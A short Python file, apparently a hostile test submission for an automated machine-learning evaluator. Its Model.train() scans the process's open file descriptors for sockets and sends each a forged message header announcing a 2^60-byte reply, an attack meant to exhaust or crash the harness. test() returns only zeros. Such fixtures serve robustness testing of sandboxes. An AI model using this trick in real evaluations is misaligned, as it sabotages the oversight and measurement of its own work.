"""Announces a reply of 2^60 bytes."""

import os
import socket
import struct

import numpy


class Model:
    def __init__(self, metadata):
        self.shape = (metadata["test_num"], metadata["class_num"])
        self.done_training = False
        self.rounds = 0

    def train(self, train_dataset, remaining_time_budget=None):
        for name in os.listdir("/proc/self/fd"):
            if os.path.exists("/proc/self/fd/" + name) and "socket" in os.readlink("/proc/self/fd/" + name):
                socket.socket(fileno=os.dup(int(name))).sendall(struct.pack("!IQ", 2, 1 << 60))

    def test(self, test_x, remaining_time_budget=None):
        return numpy.zeros(self.shape)
